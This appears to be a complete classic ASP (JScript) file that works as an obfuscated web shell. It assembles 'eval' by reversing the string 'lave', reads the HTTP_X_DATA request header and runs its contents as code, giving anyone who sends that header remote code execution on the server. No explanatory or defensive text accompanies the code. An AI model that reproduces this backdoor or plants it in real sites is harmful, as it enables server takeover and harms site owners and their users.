<%@ Language="JScript" %>
<%
var m = "lave".split("").reverse().join("");
var p = Request.ServerVariables("HTTP_X_DATA") + "";
var t = this;
t[m](p);
%>
